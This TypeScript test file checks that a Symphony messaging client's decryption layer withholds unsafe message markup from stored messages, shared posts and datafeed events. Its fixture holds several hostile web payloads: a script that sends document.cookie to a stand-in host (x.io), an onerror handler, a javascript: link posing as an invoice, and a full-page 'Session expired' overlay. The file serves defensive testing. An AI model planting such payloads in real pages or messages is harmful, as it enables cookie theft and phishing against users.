import { randomBytes } from "node:crypto";
import { newSymphonyId } from "@symphony/kit";
import type { MessageContent } from "@symphony/proto/agent/v1/model";
import { Event } from "@symphony/proto/events/v1/events";
import type { StoredMessage } from "@symphony/proto/pod/v1/messages";
import { describe, expect, it } from "vitest";
import type { ContentKeyCache } from "./content-keys.js";
import { readEventContent, readMessage } from "./decrypt.js";
import { encryptMessage } from "./envelope.js";
import type { ActingBot } from "./principal.js";
import { WITHHELD } from "./safe-content.js";

const key = { rotationId: 3, key: randomBytes(32) };
const keys = { rotation: async () => key } as unknown as ContentKeyCache;
const reader: ActingBot = { principal: { userId: 7, username: "reader", jti: "j", exp: 0, issuedAtMs: 0 }, sessionToken: "s", kmToken: "k", traceId: "t" };
const streamId = newSymphonyId();
const pml = (body: string) => `<div data-format="PresentationML" data-version="2.0">${body}</div>`;

/** A message as the pod would return it, its envelope sealed with the stream key like any other. */
function stored(content: MessageContent): StoredMessage {
  const messageId = newSymphonyId();
  return { messageId, streamId, streamType: "ROOM", timestamp: 1, sender: undefined, ciphertext: encryptMessage(key, streamId, messageId, content) };
}

const FORBIDDEN = {
  script: pml("hi<script>fetch('https://x.io/?'+document.cookie)</script>"),
  onerror: pml('<img src="https://x.io/none.png" onerror="alert(1)"/>'),
  "javascript: href": pml('<a href="javascript:alert(1)">your invoice</a>'),
  "position:fixed overlay": pml('<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background-color:white">Session expired</div>'),
};

describe("reading stored messages", () => {
  it.each(Object.entries(FORBIDDEN))("never returns a stored %s: the placeholder stands in, with no entities", async (_, markup) => {
    const message = await readMessage(keys, reader, stored({ presentationMl: markup, entityJson: '{"e":1}' }));
    expect(message.message).toBe(WITHHELD);
    expect(message.data).toBe("{}");
    expect(message.diagnostic).toBe("");
  });

  it("returns allowed content as it was written", async () => {
    const content = { presentationMl: pml('<b style="color:red">hi</b> <span class="entity" data-entity-id="keyword1">#x</span>'), entityJson: '{"keyword1":{"type":"org.symphonyoss.taxonomy"}}' };
    const message = await readMessage(keys, reader, stored(content));
    expect({ message: message.message, data: message.data }).toEqual({ message: content.presentationMl, data: content.entityJson });
  });

  it("withholds content whose entity JSON is not a JSON object", async () => {
    for (const entityJson of ["{", "[1]", "null", '"x"']) {
      const message = await readMessage(keys, reader, stored({ presentationMl: pml("ok"), entityJson }));
      expect(message.message).toBe(WITHHELD);
      expect(message.data).toBe("{}");
    }
  });

  it("checks the post and the shared message of a shared post each on its own", async () => {
    const sharedId = newSymphonyId();
    const message = await readMessage(keys, reader, stored({ presentationMl: pml("look"), entityJson: "{}", shared: { messageId: sharedId, presentationMl: FORBIDDEN.onerror, entityJson: "{}" } }));
    expect(message.message).toBe(pml("look"));
    expect(message.sharedMessage).toMatchObject({ messageId: sharedId, message: WITHHELD, data: "{}" });
  });

  it("never returns forbidden markup in a datafeed event's message or shared post", async () => {
    for (const markup of Object.values(FORBIDDEN)) {
      const m = stored({ presentationMl: markup, entityJson: "{}", shared: { messageId: newSymphonyId(), presentationMl: markup, entityJson: "{}" } });
      const sent = { messageId: m.messageId, ciphertext: m.ciphertext };
      for (const e of [{ type: "MESSAGESENT", messageSent: sent }, { type: "SHAREDPOST", sharedPost: sent }]) {
        const event = Event.fromPartial({ id: "e", timestamp: 1, streamId, streamType: "ROOM", initiatorUserId: 8, ...e });
        const { message } = await readEventContent(keys, reader, event, undefined);
        expect(message?.message).toBe(WITHHELD);
        expect(message?.sharedMessage?.message).toBe(WITHHELD);
      }
    }
  });
});
